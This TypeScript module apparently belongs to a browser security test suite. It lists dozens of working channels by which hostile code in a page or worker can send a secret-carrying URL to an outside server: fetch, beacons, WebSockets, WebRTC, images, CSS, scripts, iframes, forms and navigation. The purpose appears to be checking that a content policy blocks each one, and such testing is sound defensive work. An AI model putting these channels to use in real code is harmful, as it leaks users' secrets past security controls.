//! Ways in which hostile code inside the app could tell a stranger something. Each runs in the browser and stands alone.
//!
//! Only ways that are seen to work in a page without a policy are here: a way that never works proves nothing.

/** Gets the stranger's address with the secret in it. */
export type Channel = (url: string) => unknown;

/** Ways that a document has. They may share one. */
export const DOCUMENT: Readonly<Record<string, Channel>> = {
  fetch: (url) => fetch(url),
  'fetch-no-cors': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: url }),
  'fetch-keepalive': (url) => fetch(url, { mode: 'no-cors', keepalive: true }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  beacon: (url) => navigator.sendBeacon(url, url),
  websocket: (url) => new WebSocket(url.replace('http', 'ws')),
  'event-source': (url) => new EventSource(url),
  'web-transport': (url) => new WebTransport(url.replace('http:', 'https:')),
  webrtc: async (url) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
    connection.createDataChannel('x');
    // Held on to, or it may be collected before it has sent anything.
    Object.assign(window, { [url]: connection });
    await connection.setLocalDescription(await connection.createOffer());
  },
  'webrtc-turn-tcp': async (url) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `turn:${new URL(url).host}?transport=tcp`, username: 'secret', credential: 'secret' }] });
    connection.createDataChannel('x');
    // Held on to, or it may be collected before it has sent anything.
    Object.assign(window, { [url]: connection });
    await connection.setLocalDescription(await connection.createOffer());
  },
  image: (url) => {
    new Image().src = url;
  },
  'image-srcset': (url) => {
    new Image().srcset = `${url} 1x`;
  },
  picture: (url) => {
    const picture = document.createElement('picture');
    const source = document.createElement('source');
    source.srcset = url;
    picture.append(source, new Image());
    document.body.append(picture);
  },
  'svg-image': (url) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  },
  'input-image': (url) => {
    const input = document.createElement('input');
    input.type = 'image';
    input.src = url;
    document.body.append(input);
  },
  'background-attribute': (url) => {
    const table = document.createElement('table');
    table.setAttribute('background', url);
    table.insertRow().insertCell().textContent = 'x';
    document.body.append(table);
  },
  'style-element': (url) => {
    const style = document.createElement('style');
    style.textContent = `body { background-image: url(${url}) }`;
    document.head.append(style);
  },
  'style-import': (url) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${url});`;
    document.head.append(style);
  },
  'style-attribute': (url) => document.body.setAttribute('style', `list-style-image: url(${url}); display: list-item`),
  'style-object': (url) => {
    const box = document.createElement('p');
    box.style.backgroundImage = `url(${url})`;
    box.textContent = 'x';
    document.body.append(box);
  },
  'constructed-sheet': (url) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background-image: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'font-face': (url) => new FontFace('x', `url(${url})`).load(),
  'link-stylesheet': (url) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = url;
    document.head.append(link);
  },
  'link-preload': (url) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'image';
    link.href = url;
    document.head.append(link);
  },
  'link-modulepreload': (url) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = url;
    document.head.append(link);
  },
  'link-prefetch': (url) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = url;
    document.head.append(link);
  },
  script: (url) => {
    const script = document.createElement('script');
    script.src = url;
    document.head.append(script);
  },
  'module-script': (url) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = url;
    document.head.append(script);
  },
  'inline-script': (url) => {
    const script = document.createElement('script');
    script.textContent = `fetch(${JSON.stringify(url)})`;
    document.head.append(script);
  },
  'event-attribute': (url) => {
    const button = document.createElement('button');
    button.setAttribute('onclick', `fetch(${JSON.stringify(url)})`);
    document.body.append(button);
    button.click();
  },
  eval: (url) => (0, eval)(`fetch(${JSON.stringify(url)})`),
  import: (url) => import(/* @vite-ignore */ url),
  audio: (url) => {
    new Audio(url).load();
  },
  'video-poster': (url) => {
    const video = document.createElement('video');
    video.poster = url;
    document.body.append(video);
  },
  object: (url) => {
    const object = document.createElement('object');
    object.data = url;
    document.body.append(object);
  },
  embed: (url) => {
    const embed = document.createElement('embed');
    embed.src = url;
    document.body.append(embed);
  },
  iframe: (url) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
  },
  'iframe-srcdoc': (url) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${url}">`;
    document.body.append(frame);
  },
  'iframe-data': (url) => {
    const frame = document.createElement('iframe');
    frame.src = `data:text/html,<img src="${url}">`;
    document.body.append(frame);
  },
  'iframe-blob': (url) => {
    const frame = document.createElement('iframe');
    frame.src = URL.createObjectURL(new Blob([`<img src="${url}">`], { type: 'text/html' }));
    document.body.append(frame);
  },
  'inner-html': (url) => {
    const place = document.createElement('div');
    place.innerHTML = `<img src="${url}">`;
    document.body.append(place);
  },
  'blob-worker': (url) => {
    const script = URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`], { type: 'text/javascript' }));
    return new Promise(() => new Worker(script));
  },
};

/** Ways that end the document or leave it: each needs one of its own. */
export const NAVIGATION: Readonly<Record<string, Channel>> = {
  location: (url) => {
    location.href = url;
  },
  'location-replace': (url) => location.replace(url),
  'top-location': (url) => {
    if (top) top.location.href = url;
  },
  'window-open': (url) => window.open(url),
  'anchor-click': (url) => {
    const anchor = document.createElement('a');
    anchor.href = url;
    document.body.append(anchor);
    anchor.click();
  },
  'anchor-download': (url) => {
    const anchor = document.createElement('a');
    anchor.href = url;
    anchor.download = 'x';
    document.body.append(anchor);
    anchor.click();
  },
  'anchor-ping': (url) => {
    const anchor = document.createElement('a');
    anchor.href = '#x';
    anchor.setAttribute('ping', url);
    document.body.append(anchor);
    anchor.click();
  },
  'anchor-blank': (url) => {
    const anchor = document.createElement('a');
    anchor.href = url;
    anchor.target = '_blank';
    document.body.append(anchor);
    anchor.click();
  },
  form: (url) => {
    const form = document.createElement('form');
    form.action = url;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  'form-blank': (url) => {
    const form = document.createElement('form');
    form.action = url;
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  },
  'meta-refresh': (url) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${url}`;
    document.head.append(meta);
  },
};

/** Ways that a worker has. */
export const WORKER: Readonly<Record<string, Channel>> = {
  fetch: (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: url }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  websocket: (url) => new WebSocket(url.replace('http', 'ws')),
  'event-source': (url) => new EventSource(url),
  'web-transport': (url) => new WebTransport(url.replace('http:', 'https:')),
  'import-scripts': (url) => (self as unknown as { importScripts(url: string): void }).importScripts(url),
  'font-face': (url) => new FontFace('x', `url(${url})`).load(),
  'nested-worker': (url) => {
    const script = URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`], { type: 'text/javascript' }));
    return new Worker(script);
  },
};
